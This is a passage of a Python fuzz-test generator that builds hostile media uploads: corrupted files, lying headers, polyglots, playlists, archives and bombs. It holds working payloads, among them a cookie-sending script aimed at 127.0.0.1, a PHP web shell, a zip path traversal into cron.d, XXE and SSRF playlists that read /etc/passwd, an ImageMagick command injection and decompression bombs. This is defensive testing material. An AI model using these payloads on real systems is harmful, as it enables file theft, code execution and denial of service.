"""Media files that are made to hurt whoever opens them, each from a number and a seed, all as code.

`Maker.case` takes a small file that PyAV or Pillow has just written and damages it, lies in its headers,
joins it to something else, or makes from nothing what was never a media file: a playlist under a video's
name, an archive, a bomb. The same number and seed give the same bytes with the same versions of both.

`BOMBS` are the files that unpack to far more than they weigh, by name, for whoever wants each of them.
"""

from __future__ import annotations

import dataclasses
import functools
import gzip
import io
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from fractions import Fraction

import av
import numpy as np

# How often each family is drawn, of all together.
WEIGHTS = {
  "whole": 4,
  "truncated": 14,
  "flipped": 16,
  "spliced": 14,
  "lying": 22,
  "polyglot": 5,
  "playlist": 5,
  "markup": 3,
  "shell": 4,
  "renamed": 4,
  "archive": 3,
  "unusual": 6,
  "nested": 3,
  "form": 4,
  "bomb": 1,
}
_SIDE = (96, 72)


@dataclasses.dataclass(frozen=True)
class Case:
  """A request with a hostile file.

  Attributes:
    number: of the case.
    family: of WEIGHTS.
    what: the file it was made of and how, for people.
    kind: "video", "image" or "audio", the address that it is sent to.
    name: of the file.
    data: the file.
    body: the form as it is sent, where it is not the usual one of `name` and `data`.
    length: Content-Length, where it is not that of the body.
  """

  number: int
  family: str
  what: str
  kind: str
  name: str
  data: bytes
  body: bytes | None = None
  length: int | None = None

  def form(self, boundary: bytes = b"deepscan-hostile") -> bytes:
    """The body of the request."""
    return self.body if self.body is not None else one_file(self.kind, self.name, self.data, boundary)


BOUNDARY = b"deepscan-hostile"


def one_file(field: str, name: str, data: bytes, boundary: bytes = BOUNDARY) -> bytes:
  """A form of one file."""
  safe = name.replace("\\", "\\\\").replace('"', '\\"')
  head = f'--{boundary.decode()}\r\nContent-Disposition: form-data; name="{field}"; filename="{safe}"\r\n\r\n'
  return head.encode("utf-8", "surrogateescape") + data + b"\r\n--" + boundary + b"--\r\n"


class Maker:
  """Makes cases; whole files are made when they are first wanted, and kept.

  Args:
    seed: of all cases.
  """

  def __init__(self, seed: int = 0):
    self._seed = seed

  def case(self, number: int) -> Case:
    """The case of this number."""
    rng = random.Random(f"deepscan/{self._seed}/{number}")
    family = rng.choices(list(WEIGHTS), list(WEIGHTS.values()))[0]
    return dataclasses.replace(_FAMILIES[family](rng), number=number, family=family)


# Whole files -----------------------------------------------------------------------------------------------


def pictures(count: int, *, width: int = _SIDE[0], height: int = _SIDE[1]) -> np.ndarray:
  """uint8 RGB [count, height, width, 3]: a gradient that moves."""
  x, y, time = np.arange(width), np.arange(height), np.arange(count)
  red = (x[None, None] * 255 // width + time[:, None, None] * 9) % 256
  green = np.broadcast_to(y[None, :, None] * 255 // height, (count, height, width))
  blue = (x[None, None] + y[None, :, None] + time[:, None, None] * 5) % 256
  return np.stack(np.broadcast_arrays(red, green, blue), -1).astype(np.uint8)


def face(side: int = 160) -> np.ndarray:
  """uint8 RGB [side, side, 3] with one face, scikit-image's astronaut."""
  import cv2
  import skimage.data

  return cv2.resize(skimage.data.astronaut()[:220, 110:330], (side, side), interpolation=cv2.INTER_AREA)


def murmur(seconds: float, *, rate_hz: int, seed: int = 0) -> np.ndarray:
  """float32 [sample] in [-1, 1]: harmonics whose pitch and loudness move, with some hiss."""
  rng = np.random.default_rng(seed)
  times_s = np.arange(round(seconds * rate_hz)) / rate_hz
  phase = 2 * np.pi * np.cumsum(120 * (1 + 0.1 * np.sin(9 * times_s))) / rate_hz
  sound = sum(np.cos(k * phase) / k for k in range(1, 12)) * (0.5 + 0.5 * np.sin(14 * times_s))
  return (0.1 * sound + 0.003 * rng.standard_normal(len(times_s))).astype(np.float32)


def video(
  container: str,
  codec: str,
  *,
  frames: np.ndarray | None = None,
  pixel_format: str = "yuv420p",
  sound: str | None = None,
  rate: int = 25,
  ticks: list[int] | None = None,
  options: Mapping[str, str] | None = None,
  streams: int = 1,
) -> bytes:
  """A small film; `ticks` are its frames' times in ms, `streams` is how many times it is in the file."""
  frames = pictures(12) if frames is None else frames
  buffer = io.BytesIO()
  with av.open(buffer, "w", format=container, options={"fflags": "+bitexact"}) as target:
    made = []
    for _ in range(streams):
      stream = target.add_stream(codec, rate=rate, options=dict(options or {}))
      stream.height, stream.width = frames.shape[1:3]
      stream.pix_fmt = pixel_format
      stream.codec_context.gop_size, stream.codec_context.thread_count = 6, 1
      if ticks is not None:
        stream.codec_context.time_base = Fraction(1, 1000)
      made.append(stream)
    track = target.add_stream(sound, rate=48_000, layout="mono") if sound else None
    for number, pixels in enumerate(frames):
      for stream in made:
        frame = av.VideoFrame.from_ndarray(np.ascontiguousarray(pixels), format="rgb24")
        frame = frame.reformat(format=pixel_format)
        frame.pts = number if ticks is None else ticks[number]
        frame.time_base = Fraction(1, rate if ticks is None else 1000)
        target.mux(stream.encode(frame))
    for stream in made:
      target.mux(stream.encode())
    if track is not None:
      _add_sound(target, track, murmur(len(frames) / rate, rate_hz=48_000))
  return buffer.getvalue()


def audio(
  container: str,
  codec: str,
  *,
  rate_hz: int = 16_000,
  layout: str = "mono",
  seconds: float = 1.5,
  waveform: np.ndarray | None = None,
) -> bytes:
  """A small sound file."""
  buffer = io.BytesIO()
  with av.open(buffer, "w", format=container, options={"fflags": "+bitexact"}) as target:
    track = target.add_stream(codec, rate=rate_hz, layout=layout)
    _add_sound(target, track, murmur(seconds, rate_hz=rate_hz) if waveform is None else waveform, layout)
  return buffer.getvalue()


def _add_sound(target, track, waveform: np.ndarray, layout: str = "mono") -> None:
  resampler = av.AudioResampler(track.codec_context.format, layout, track.rate)
  channels = av.AudioLayout(layout).nb_channels
  for start in range(0, len(waveform), 1024):
    piece = np.repeat(waveform[None, start : start + 1024], channels, 0)
    frame = av.AudioFrame.from_ndarray(np.ascontiguousarray(piece), format="fltp", layout=layout)
    frame.sample_rate, frame.time_base, frame.pts = track.rate, Fraction(1, track.rate), start
    for resampled in resampler.resample(frame):
      target.mux(track.encode(resampled))
  for resampled in resampler.resample(None):
    target.mux(track.encode(resampled))
  target.mux(track.encode())


def picture(form: str, *, mode: str = "RGB", pixels: np.ndarray | None = None, **settings) -> bytes:
  """A small picture; `form` and `settings` as Pillow's save takes them."""
  from PIL import Image

  image = Image.fromarray(pictures(1)[0] if pixels is None else pixels)
  if mode == "I;16":
    image = image.convert("L").convert("I;16")
  buffer = io.BytesIO()
  (image if image.mode == mode else image.convert(mode)).save(buffer, form, **settings)
  return buffer.getvalue()


# Name: kind, and how the file is made.
WHOLE: dict[str, tuple[str, Callable[[], bytes]]] = {
  "plain.jpg": ("image", lambda: picture("JPEG", quality=80)),
  "steps.jpg": ("image", lambda: picture("JPEG", quality=60, progressive=True)),
  "grey.jpeg": ("image", lambda: picture("JPEG", mode="L")),
  "inks.jpg": ("image", lambda: picture("JPEG", mode="CMYK")),
  "face.jpg": ("image", lambda: picture("JPEG", pixels=face(), quality=85)),
  "plain.png": ("image", lambda: picture("PNG")),
  "clear.png": ("image", lambda: picture("PNG", mode="RGBA")),
  "deep.png": ("image", lambda: picture("PNG", mode="I;16")),
  "few.png": ("image", lambda: picture("PNG", mode="P")),
  "plain.webp": ("image", lambda: picture("WEBP", quality=60)),
  "exact.webp": ("image", lambda: picture("WEBP", mode="RGBA", lossless=True)),
  "plain.mp4": ("video", lambda: video("mp4", "libx264", options={"preset": "ultrafast"}, sound="aac")),
  "part2.mp4": ("video", lambda: video("mp4", "mpeg4")),
  "plain.mov": ("video", lambda: video("mov", "mpeg4", sound="pcm_s16le")),
  "plain.webm": ("video", lambda: video("webm", "libvpx", options={"deadline": "realtime"}, sound="libopus")),
  "plain.mkv": ("video", lambda: video("matroska", "libx264", options={"preset": "ultrafast"}, sound="flac")),
  "plain.avi": ("video", lambda: video("avi", "mpeg4", sound="libmp3lame")),
  "jpegs.avi": ("video", lambda: video("avi", "mjpeg", pixel_format="yuvj420p")),
  "plain.mpg": ("video", lambda: video("mpeg", "mpeg1video", sound="mp2")),
  "face.mp4": (
    "video",
    lambda: video("mp4", "libx264", frames=np.stack([face()] * 4), options={"preset": "ultrafast"}),
  ),
  "plain.wav": ("audio", lambda: audio("wav", "pcm_s16le")),
  "float.wav": ("audio", lambda: audio("wav", "pcm_f32le")),
  "plain.mp3": ("audio", lambda: audio("mp3", "libmp3lame")),
  "plain.flac": ("audio", lambda: audio("flac", "flac")),
  "plain.ogg": ("audio", lambda: audio("ogg", "libopus", rate_hz=48_000)),
  "plain.m4a": ("audio", lambda: audio("ipod", "aac")),
}


@functools.cache
def whole(name: str) -> bytes:
  """One of WHOLE."""
  return WHOLE[name][1]()


def _draw(
  rng: random.Random, *, kinds: tuple[str, ...] = ("video", "image", "audio")
) -> tuple[str, str, bytes]:
  """(kind, name, bytes) of one of WHOLE."""
  name = rng.choice([name for name, (kind, _) in WHOLE.items() if kind in kinds])
  return WHOLE[name][0], name, whole(name)


def _case(what: str, kind: str, name: str, data: bytes, **more) -> Case:
  return Case(0, "", what, kind, name, bytes(data), **more)


# Damage ----------------------------------------------------------------------------------------------------


def _whole(rng: random.Random) -> Case:
  kind, name, data = _draw(rng)
  # Bytes behind the end, so that no two are the same file.
  return _case("with bytes behind its end", kind, name, data + rng.randbytes(rng.randint(1, 40)))


def _truncated(rng: random.Random) -> Case:
  kind, name, data = _draw(rng)
  keep = rng.choice(
    [
      rng.randint(1, len(data) - 1),
      rng.randint(1, min(64, len(data) - 1)),
      len(data) - rng.randint(1, min(40, len(data) - 1)),
    ]
  )
  if rng.random() < 0.2:
    return _case(f"its last {keep} bytes behind its first 64", kind, name, data[:64] + data[-keep:])
  return _case(f"its first {keep} bytes", kind, name, data[:keep])


def _flipped(rng: random.Random) -> Case:
  kind, name, data = _draw(rng)
  changed = bytearray(data)
  end = rng.choice([len(data), min(len(data), 600), min(len(data), 120)])
  start = rng.choice([0, 0, 12, max(0, len(data) - 400)]) % end
  count = rng.choice([1, 2, 8, 40, 200])
  for _ in range(count):
    changed[rng.randrange(start, max(end, start + 1))] ^= 1 << rng.randrange(8)
  return _case(f"{count} bits flipped in {start}..{end}", kind, name, changed)


def _spliced(rng: random.Random) -> Case:
  kind, name, data = _draw(rng)
  size = rng.choice([1, 4, 16, 64, 512, 2048])
  at = rng.randrange(0 if rng.random() < 0.2 else min(16, len(data) - 1), len(data))
  way = rng.choice(["cut", "doubled", "zeroed", "ones", "noise", "other", "reversed", "moved"])
  block = data[at : at + size]
  if way == "cut":
    changed = data[:at] + data[at + size :]
  elif way == "doubled":
    changed = data[:at] + block * rng.choice([2, 3, 50]) + data[at + size :]
  elif way == "other":
    _, other, theirs = _draw(rng)
    way = f"replaced by a piece of {other}"
    begin = rng.randrange(len(theirs))
    changed = data[:at] + theirs[begin : begin + size] + data[at + size :]
  elif way == "moved":
    rest = data[:at] + data[at + size :]
    to = rng.randrange(len(rest) + 1)
    changed = rest[:to] + block + rest[to:]
  else:
    filling = {
      "zeroed": bytes(len(block)),
      "ones": b"\xff" * len(block),
      "noise": rng.randbytes(len(block)),
      "reversed": block[::-1],
    }[way]
    changed = data[:at] + filling + data[at + size :]
  return _case(f"{size} bytes at {at} {way}", kind, name, changed)


# Lies ------------------------------------------------------------------------------------------------------

# Of files whose names end so: what is lied about, the bytes that it stands behind, how far behind the end of
# these, its size in bytes and which end comes first.
_ISO = (
  ("duration", b"mvhd", 16, 4, "big"),
  ("clock", b"mvhd", 12, 4, "big"),
  ("track duration", b"tkhd", 20, 4, "big"),
  ("matrix", b"tkhd", 40, 4, "big"),
  ("width", b"tkhd", 76, 4, "big"),
  ("height", b"tkhd", 80, 4, "big"),
  ("track clock", b"mdhd", 12, 4, "big"),
  ("media duration", b"mdhd", 16, 4, "big"),
  ("coded width", b"avc1", 24, 2, "big"),
  ("coded height", b"avc1", 26, 2, "big"),
  ("coded width", b"mp4v", 24, 2, "big"),
  ("channels", b"mp4a", 16, 2, "big"),
  ("sample rate", b"mp4a", 24, 4, "big"),
  ("entries", b"stsd", 4, 4, "big"),
  ("entries", b"stts", 4, 4, "big"),
  ("frames", b"stts", 8, 4, "big"),
  ("frame duration", b"stts", 12, 4, "big"),
  ("frame size", b"stsz", 4, 4, "big"),
  ("frames", b"stsz", 8, 4, "big"),
  ("first size", b"stsz", 12, 4, "big"),
  ("chunks", b"stco", 4, 4, "big"),
  ("place", b"stco", 8, 4, "big"),
  ("frames of a chunk", b"stsc", 12, 4, "big"),
  ("edit", b"elst", 8, 4, "big"),
  ("edit start", b"elst", 12, 4, "big"),
  ("edit rate", b"elst", 16, 2, "big"),
  ("size of the index", b"moov", -8, 4, "big"),
  ("size of the media", b"mdat", -8, 4, "big"),
  ("size of a track", b"trak", -8, 4, "big"),
  ("size of settings", b"avcC", -8, 4, "big"),
  ("profile", b"avcC", 1, 2, "big"),
)
_RIFF_SOUND = (
  ("format", b"fmt ", 4, 2, "little"),
  ("channels", b"fmt ", 6, 2, "little"),
  ("sample rate", b"fmt ", 8, 4, "little"),
  ("byte rate", b"fmt ", 12, 4, "little"),
  ("block", b"fmt ", 16, 2, "little"),
  ("bits", b"fmt ", 18, 2, "little"),
  ("size of the header", b"fmt ", 0, 4, "little"),
  ("size of the sound", b"data", 0, 4, "little"),
  ("size", b"RIFF", 0, 4, "little"),
)
_LIES: dict[str, tuple[tuple[str, bytes, int, int, str], ...]] = {
  ".mp4": _ISO,
  ".mov": _ISO,
  ".m4a": _ISO,
  ".wav": _RIFF_SOUND,
  ".avi": (
    ("frame duration", b"avih", 4, 4, "little"),
    ("frames", b"avih", 20, 4, "little"),
    ("streams", b"avih", 28, 4, "little"),
    ("width", b"avih", 36, 4, "little"),
    ("height", b"avih", 40, 4, "little"),
    ("codec", b"strh", 8, 4, "little"),
    ("scale", b"strh", 24, 4, "little"),
    ("rate", b"strh", 28, 4, "little"),
    ("length", b"strh", 36, 4, "little"),
    ("coded width", b"strf", 8, 4, "little"),
    ("coded height", b"strf", 12, 4, "little"),
    ("bits", b"strf", 18, 2, "little"),
    ("place in the index", b"idx1", 12, 4, "little"),
    ("size of the index", b"idx1", 0, 4, "little"),
    ("size of a frame", b"00dc", 0, 4, "little"),
  ),
  ".flac": (
    ("block sizes", b"fLaC", 4, 4, "big"),
    ("frame sizes", b"fLaC", 8, 4, "big"),
    ("sample rate and channels", b"fLaC", 14, 4, "big"),
    ("samples", b"fLaC", 18, 4, "big"),
    ("size of settings", b"fLaC", 0, 4, "big"),
  ),
  ".ogg": (
    ("channels", b"OpusHead", 1, 1, "little"),
    ("skipped", b"OpusHead", 2, 2, "little"),
    ("sample rate", b"OpusHead", 4, 4, "little"),
    ("loudness", b"OpusHead", 8, 2, "little"),
    ("time", b"OggS", 2, 8, "little"),
    ("stream", b"OggS", 10, 4, "little"),
    ("page", b"OggS", 14, 4, "little"),
    ("pieces", b"OggS", 22, 1, "little"),
  ),
  ".mp3": (
    ("size of the tags", b"ID3", 3, 4, "big"),
    ("frames", b"Info", 4, 4, "big"),
    ("bytes", b"Info", 8, 4, "big"),
    ("header", b"\xff\xfb", 0, 2, "big"),
    ("header", b"\xff\xf3", 0, 2, "big"),
  ),
  ".jpg": (
    ("height", b"\xff\xc0", 3, 2, "big"),
    ("width", b"\xff\xc0", 5, 2, "big"),
    ("height", b"\xff\xc2", 3, 2, "big"),
    ("width", b"\xff\xc2", 5, 2, "big"),
    ("components", b"\xff\xc0", 7, 1, "big"),
    ("sampling", b"\xff\xc0", 9, 1, "big"),
    ("table of sums", b"\xff\xdb", 0, 2, "big"),
    ("table of codes", b"\xff\xc4", 0, 2, "big"),
    ("scan", b"\xff\xda", 2, 1, "big"),
  ),
  ".webp": (
    ("size", b"RIFF", 0, 4, "little"),
    ("features", b"VP8X", 4, 4, "little"),
    ("canvas", b"VP8X", 8, 4, "little"),
    ("size of the picture", b"VP8 ", 0, 4, "little"),
    ("width and height", b"VP8 ", 10, 4, "little"),
    ("width and height", b"VP8L", 5, 4, "little"),
  ),
  ".mpg": (
    ("width and height", b"\x00\x00\x01\xb3", 0, 3, "big"),
    ("rate", b"\x00\x00\x01\xb3", 3, 1, "big"),
    ("clock", b"\x00\x00\x01\xba", 0, 4, "big"),
    ("size of a packet", b"\x00\x00\x01\xe0", 0, 2, "big"),
  ),
}
_LIES[".jpeg"] = _LIES[".jpg"]
# Elements of Matroska: what they say, and their names. A byte with the size of the value follows.
_EBML = (
  ("width", b"\xb0"),
  ("height", b"\xba"),
  ("shown width", b"\x54\xb0"),
  ("shown height", b"\x54\xba"),
  ("frame duration", b"\x23\xe3\x83"),
  ("sample rate", b"\xb5"),
  ("channels", b"\x9f"),
  ("bits", b"\x62\x64"),
  ("clock", b"\x2a\xd7\xb1"),
  ("duration", b"\x44\x89"),
  ("track", b"\xd7"),
  ("kind of track", b"\x83"),
  ("cluster time", b"\xe7"),
  ("delay", b"\x56\xaa"),
  ("version", b"\x42\x86"),
)


def _lying(rng: random.Random) -> Case:
  kind, name, data = _draw(rng)
  ending = name[name.rindex(".") :]
  changed = bytearray(data)
  told = []
  for _ in range(rng.choice([1, 1, 1, 2, 3])):
    if ending == ".png":
      told.append(_lie_of_png(rng, changed))
    elif ending in (".mkv", ".webm"):
      told.append(_lie_of_ebml(rng, changed))
    else:
      told.append(_lie_of_field(rng, changed, _LIES[ending]))
  return _case("; ".join(told), kind, name, changed)


def _extreme(rng: random.Random, size: int) -> int:
  """Zero, one, negative, huge or anything, in so many bytes."""
  top = 1 << 8 * size
  return rng.choice([0, 0, 1, top - 1, top // 2, top // 2 - 1, top - 2, top >> 4, rng.randrange(top)])


def _lie_of_field(rng: random.Random, data: bytearray, fields) -> str:
  there = [field for field in fields if field[1] in data]
  if not there:
    return "no lie"
  what, mark, behind, size, order = rng.choice(there)
  places = [at for at in _places(data, mark) if 0 <= at + len(mark) + behind <= len(data) - size]
  if not places:
    return "no lie"
  at = rng.choice(places) + len(mark) + behind
  value = _extreme(rng, size)
  data[at : at + size] = value.to_bytes(size, order)
  return f"{what} {value}"


def _lie_of_ebml(rng: random.Random, data: bytearray) -> str:
  what, mark = rng.choice(_EBML)
  # The headers come first; in the pictures behind them the same bytes mean nothing.
  places = [at + len(mark) for at in _places(data[:1500], mark)]
  places = [at for at in places if 0x81 <= data[at] <= 0x88 and at + 9 < len(data)]
  if not places:
    return "no lie"
  at = rng.choice(places)
  if rng.random() < 0.15:
    data[at] = rng.choice([0xFF, 0x01, 0x80, 0x40])
    return f"size of {what}"
  size = data[at] - 0x80
  value = _extreme(rng, size)
  data[at + 1 : at + 1 + size] = value.to_bytes(size, "big")
  return f"{what} {value}"


def _lie_of_png(rng: random.Random, data: bytearray) -> str:
  """Within a chunk whose check sum is right again, or in how long one is."""
  chunks = list(_png_chunks(data))
  if not chunks:  # after an earlier lie
    return "no lie"
  if rng.random() < 0.3:
    at, _, _ = rng.choice(chunks)
    value = _extreme(rng, 4)
    data[at : at + 4] = struct.pack(">I", value)
    return f"size of a chunk {value}"
  at, size, kind = chunks[0] if rng.random() < 0.7 else rng.choice(chunks)
  where, width = rng.choice([(0, 4), (4, 4), (8, 1), (9, 1), (10, 1), (12, 1)])
  if kind != b"IHDR" or size < 13:
    where, width = rng.randrange(max(size, 1)), 1
  value = _extreme(rng, width)
  if size:
    data[at + 8 + where : at + 8 + where + width] = value.to_bytes(width, "big")
    check = zlib.crc32(data[at + 4 : at + 8 + size])
    data[at + 8 + size : at + 12 + size] = struct.pack(">I", check)
  return f"{kind.decode('latin1')} at {where}: {value}"


def _png_chunks(data: bytes) -> Iterator[tuple[int, int, bytes]]:
  """(place, size of the content, name) of each chunk."""
  at = 8
  while at + 12 <= len(data):
    size = int.from_bytes(data[at : at + 4], "big")
    if at + 12 + size > len(data):
      return
    yield at, size, bytes(data[at + 4 : at + 8])
    at += 12 + size


def _places(data: bytes, mark: bytes) -> list[int]:
  """Where the bytes stand, the first few times."""
  found, at = [], data.find(mark)
  while at >= 0 and len(found) < 8:
    found.append(at)
    at = data.find(mark, at + 1)
  return found


# What is something else as well, or only -------------------------------------------------------------------

_HTML = (
  b"<!doctype html><html><body><script>fetch('http://127.0.0.1/'+document.cookie)</script></body></html>"
)
_SVG, _XML = b'<svg xmlns="http://www.w3.org/2000/svg" ', b'<?xml version="1.0"?>'
_SCRIPT = b"/*\x00*/=1;alert(1);//"


def _polyglot(rng: random.Random) -> Case:
  kind, name, data = _draw(rng)
  extra_name, extra = rng.choice(
    [
      ("an archive", _zip({"a.txt": b"text", "../../etc/cron.d/x": b"* * * * * root true\n"})),
      ("a page", _HTML),
      ("a script", _SCRIPT * 40),
      ("a PDF", b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"),
      ("an ELF program", b"\x7fELF\x02\x01\x01" + rng.randbytes(200)),
      ("a shell script", b"#!/bin/sh\ntouch /tmp/deepscan-was-here\n"),
      ("a playlist", _playlists(rng)[1]),
      ("another file", _draw(rng)[2]),
      ("a PHP page", b"<?php system($_GET['c']); ?>"),
    ]
  )
  way = rng.choice(["behind", "before", "within", "comment"])
  if way == "behind":
    changed = data + extra
  elif way == "before":
    changed = extra + data
  elif way == "comment" and name.endswith((".jpg", ".jpeg")):
    changed = data[:2] + b"\xff\xfe" + struct.pack(">H", len(extra[:60000]) + 2) + extra[:60000] + data[2:]
  elif way == "comment" and name.endswith(".png"):
    changed = data[:33] + _png_chunk(b"tEXt", b"Comment\0" + extra) + data[33:]
  elif way == "comment" and name.endswith((".mp4", ".mov", ".m4a")):
    changed = data + _box(b"free", extra) + _box(b"uuid", extra)
  else:
    at = rng.randrange(len(data))
    changed = data[:at] + extra + data[at:]
  return _case(f"{extra_name} {way}", kind, name, changed)


def _playlists(rng: random.Random) -> tuple[str, bytes]:
  target = rng.choice(
    [
      "file:///etc/passwd",
      "/etc/passwd",
      "http://127.0.0.1:1/secret",
      "concat:/etc/passwd|/etc/hosts",
      "subfile,,start,0,end,64,,:/etc/passwd",
      "pipe:0",
      "fd:0",
      "data:text/plain;base64,QUJD",
      "tcp://127.0.0.1:1",
      "rtsp://127.0.0.1:1/live",
      "gopher://127.0.0.1:1/x",
      "/dev/zero",
      "/proc/self/environ",
      "crypto:/etc/passwd",
    ]
  )
  return rng.choice(
    [
      ("m3u8", f"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{target}\n#EXT-X-ENDLIST\n".encode()),
      (
        "m3u8 with a key",
        f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{target}"\n#EXTINF:10,\na.ts\n#EXT-X-ENDLIST\n'.encode(),
      ),
      ("m3u8 of itself", b"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nfd:3\n" * 200),
      ("ffconcat", f"ffconcat version 1.0\nfile '{target}'\nduration 10\n".encode()),
      (
        "SDP",
        f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nu={target}\nc=IN IP4 127.0.0.1\nt=0 0\n"
        "m=video 9 RTP/AVP 96\n".encode(),
      ),
      ("pls", f"[playlist]\nFile1={target}\nLength1=-1\nNumberOfEntries=1\nVersion=2\n".encode()),
      ("asx", f'<asx version="3.0"><entry><ref href="{target}"/></entry></asx>'.encode()),
      (
        "DASH",
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><AdaptationSet>'
        f'<Representation id="1"><BaseURL>{target}</BaseURL></Representation>'
        "</AdaptationSet></Period></MPD>".encode(),
      ),
      (
        "xspf",
        f"<playlist><trackList><track><location>{target}</location></track></trackList></playlist>".encode(),
      ),
      ("cue", f'FILE "{target}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n'.encode()),
      ("ffmetadata", b";FFMETADATA1\ntitle=x\n[CHAPTER]\nSTART=0\nEND=-1\n" * 50),
      ("subtitles", b"WEBVTT\n\n00:00.000 --> 99:00:00.000\nx\n" * 50),
      ("image sequence", f"{target}%03d.png".encode()),
    ]
  )


# What makes a file look like one of its name, to the first look.
_MAGIC = {
  "video": {
    "a.mp4": b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2",
    "a.avi": b"RIFF\xff\xff\xff\x00AVI LIST",
    "a.mkv": b"\x1aE\xdf\xa3",
    "a.mpg": b"\x00\x00\x01\xba",
  },
  "image": {
    "a.jpg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
    "a.png": b"\x89PNG\r\n\x1a\n",
    "a.webp": b"RIFF\xff\x00\x00\x00WEBPVP8 ",
  },
  "audio": {
    "a.wav": b"RIFF\xff\xff\x00\x00WAVEfmt ",
    "a.mp3": b"ID3\x04\x00\x00\x00\x00\x00\x00",
    "a.flac": b"fLaC",
    "a.ogg": b"OggS\x00\x02",
  },
}


def _named(rng: random.Random) -> tuple[str, str, bytes]:
  """(kind, name, its first bytes)."""
  kind = rng.choice(list(_MAGIC))
  name = rng.choice(list(_MAGIC[kind]))
  return kind, name, _MAGIC[kind][name]


def _playlist(rng: random.Random) -> Case:
  kind, name, magic = _named(rng)
  what, data = _playlists(rng)
  way = rng.choice(["as it is", "as it is", "behind its first bytes", "in a reference"])
  if way == "behind its first bytes":
    data = magic + b"\n" + data
  elif way == "in a reference":
    # A film of QuickTime that says that its media lie elsewhere.
    place = _box(b"url ", bytes(4) + data[:400] + b"\0")
    dref = _box(b"dref", struct.pack(">II", 0, 1) + place)
    reference = _box(
      b"rmra", _box(b"rmda", _box(b"rdrf", bytes(4) + b"url " + struct.pack(">I", 400) + data[:400]))
    )
    data = _box(b"ftyp", b"qt  \0\0\0\0qt  ") + _box(b"moov", reference + _box(b"dinf", dref))
    kind, name = "video", "a.mov"
  return _case(f"{what}, {way}", kind, name, data)


def _markup(rng: random.Random) -> Case:
  kind, name, magic = _named(rng)
  laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
  what, data = rng.choice(
    [
      ("SVG", _SVG + b'width="1e9" height="1e9"><script>alert(1)</script></svg>'),
      ("SVG that names a file", _SVG + b'><image href="file:///etc/passwd"/></svg>'),
      ("XML that names a file", _XML + b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
      ("XML that laughs", _XML + f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]><x>&l9;</x>'.encode()),
      ("HTML", _HTML),
      ("PostScript", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n{}loop\n"),
      ("MVG", b"push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|id\")'\n"),
      ("XPM", b'/* XPM */\nstatic char *x[] = {"99999 99999 2 1","a c #000",};\n'),
    ]
  )
  return _case(what, kind, name, (magic if rng.random() < 0.3 else b"") + data)


def _shell(rng: random.Random) -> Case:
  """Files with nothing in them, or nothing that the first bytes promise."""
  kind, name, magic = _named(rng)
  what, data = rng.choice(
    [
      ("empty", b""),
      ("one byte", rng.randbytes(1)),
      ("its first bytes alone", magic),
      ("half of its first bytes", magic[: len(magic) // 2]),
      ("noise behind its first bytes", magic + rng.randbytes(rng.choice([60, 5000, 100_000]))),
      ("zeros behind its first bytes", magic + bytes(rng.choice([100, 1_000_000]))),
      ("noise", rng.randbytes(5000)),
      ("no streams", _box(b"ftyp", b"isom\0\0\2\0isom") + _box(b"moov", _box(b"mvhd", bytes(100)))),
      (
        "no tracks",
        b"\x1aE\xdf\xa3\x93\x42\x82\x88matroska\x42\x87\x81\x02\x42\x85\x81\x02"
        b"\x18\x53\x80\x67\x85\x15\x49\xa9\x66\x80",
      ),
      (
        "a sound of no samples",
        b"RIFF\x24\0\0\0WAVEfmt \x10\0\0\0\1\0\1\0\x80\x3e\0\0\0\x7d\0\0\2\0\x10\0data\0\0\0\0",
      ),
      ("no pictures", b"RIFF\x10\0\0\0AVI LIST\4\0\0\0movi"),
    ]
  )
  return _case(what, kind, name, data)


def _renamed(rng: random.Random) -> Case:
  """Whole files under names of others."""
  _, name, data = _draw(rng)
  other = rng.choice([other for other in WHOLE if other != name])
  kind = rng.choice([WHOLE[other][0], WHOLE[name][0], "video", "image", "audio"])
  new = rng.choice([other, "a.gif", "a.exe", "a", ".mp4", "a.mp4.png", "a.PNG", "a.mp4 ", "a.tar.gz", name])
  return _case(f"{name} as {new!r}", kind, new, data + rng.randbytes(3))


def _archive(rng: random.Random) -> Case:
  kind, name, magic = _named(rng)
  member = _draw(rng)[2]
  zeros = bytes(2_000_000)
  what, data = rng.choice(
    [
      ("zip", _zip({"a.mp4": member})),
      ("zip of zeros", _zip({f"{i}.png": zeros for i in range(3)})),
      ("zip in zip", functools.reduce(lambda inner, _: _zip({"a.zip": inner}), range(8), _zip({"a": zeros}))),
      ("zip that leaves its folder", _zip({"../../../tmp/x.png": member})),
      ("gzip", gzip.compress(member, mtime=0)),
      ("gzip of zeros", gzip.compress(zeros * 5, mtime=0)),
      ("tar with a link", _tar_with_link()),
      ("7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + rng.randbytes(300)),
      ("rar", b"Rar!\x1a\x07\x01\x00" + rng.randbytes(300)),
      ("xz", b"\xfd7zXZ\x00\x00\x04" + rng.randbytes(300)),
      ("office", _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": zeros[:100_000]})),
    ]
  )
  return _case(what, kind, name, (magic if rng.random() < 0.3 else b"") + data)


def _zip(members: Mapping[str, bytes]) -> bytes:
  buffer = io.BytesIO()
  with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as archive:
    for name, data in members.items():
      archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
  return buffer.getvalue()


def _tar_with_link() -> bytes:
  buffer = io.BytesIO()
  with tarfile.open(fileobj=buffer, mode="w") as archive:
